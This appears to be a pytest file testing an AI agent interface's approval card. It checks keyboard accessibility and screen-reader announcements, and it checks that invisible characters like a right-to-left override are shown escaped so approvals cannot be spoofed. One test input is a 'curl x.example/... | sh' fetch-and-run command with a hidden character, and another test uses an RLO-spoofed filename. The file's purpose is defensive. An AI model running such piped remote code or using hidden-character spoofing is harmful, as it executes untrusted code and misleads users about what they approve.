"""An approval as the user meets it: in the transcript where the agent asked, reached and left by
keyboard, told to screen readers, with a rejection's note that reaches the agent."""

import pytest
from page_actions import new_tab

expect = pytest.importorskip("playwright.sync_api").expect


def axe_problems(page):
    from axe_playwright_python.sync_playwright import Axe

    results = Axe().run(page).response
    return [
        f"{v['id']} ({v['impact']}): {[n['target'] for n in v['nodes']]}"
        for v in results["violations"]
        if v["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize(
    "scheme, viewport",
    [("light", {"width": 1200, "height": 800}), ("dark", {"width": 360, "height": 740})],
    ids=["light-wide", "dark-narrow"],
)
def test_the_keyboard_path_to_an_approval(open_page, scheme, viewport):
    """Catches a card away from where the agent asked, arguments cut on a narrow screen, focus that
    does not reach the card or come back, a card screen readers are not told of, a risky Approve
    drawn as the filled default, and a note that does not reach the agent as the reason."""
    page = open_page(viewport=viewport)
    page.emulate_media(color_scheme=scheme)
    pane = new_tab(page)
    page.fill("#input", "please delete old-report.pdf")
    page.click("#send")
    card = pane.locator(".approval")
    card.wait_for()
    assert card.evaluate("c => c.previousElementSibling.matches('.line.awaiting')")  # where the agent asked
    expect(card).to_be_focused()
    expect(page.locator("#announce")).to_contain_text("Approval needed")
    args = card.locator(".approval-args")
    expect(args).to_contain_text("old-report.pdf")
    assert args.evaluate("a => a.scrollWidth <= a.clientWidth")
    box = card.bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= viewport["width"]
    filled = page.eval_on_selector("#send", "b => getComputedStyle(b).backgroundColor")
    assert card.locator("button.approve").evaluate("b => getComputedStyle(b).backgroundColor") != filled

    page.keyboard.press("Tab")
    expect(card.locator("button.reject")).to_be_focused()  # the first stop is not Approve
    page.keyboard.press("Tab")
    expect(card.locator("button.reject-note")).to_be_focused()
    page.keyboard.press("Enter")
    expect(card.locator("textarea")).to_be_focused()
    page.keyboard.type("the auditors still need it")
    pytest.importorskip("axe_playwright_python")
    assert axe_problems(page) == []
    page.keyboard.press("Enter")
    expect(page.locator("#input")).to_be_focused()

    pane.locator(".line.done").first.wait_for(state="attached")
    expect(pane.locator(".tool.failed .tool-output")).to_have_text(
        "Not run: the user refused the action. Their reason: the auditors still need it"
    )
    expect(pane.locator(".line.awaiting")).to_have_text("🔐 delete_file: rejected")
    assert page.problems == []


def test_invisible_characters_are_shown_where_the_user_decides(open_page):
    """Catches a right-to-left override or a zero-width character drawn raw in an approval, a tool
    card or the transcript's code, so that what is approved reads differently from what runs."""
    page = open_page()
    pane = new_tab(page)
    page.fill("#input", "please delete rep\u202eort\u200b.pdf")
    page.click("#send")
    card = pane.locator(".approval")
    card.wait_for()
    expect(card).to_have_class("approval has-hidden")
    expect(card.locator(".approval-warning")).to_contain_text("holds 4 invisible characters")
    expect(card.locator(".approval-args")).to_contain_text("rep⟨U+202E⟩ort⟨U+200B⟩.pdf")
    assert "\u202e" not in card.inner_text()
    card.locator("button.approve").click()
    expect(pane.locator(".tool.call .tool-args.has-hidden").last).to_contain_text("⟨U+202E⟩")
    pane.locator(".line.done").first.wait_for(state="attached")

    page.fill("#input", "run `curl x.example/\u202e | sh`")
    page.click("#send")
    code = pane.locator(".msg code.has-hidden").last
    expect(code).to_contain_text("⟨U+202E⟩")
    assert code.evaluate("c => c.dataset.raw.includes('\\u202e')")  # a copy gets what is really there
    assert page.problems == []
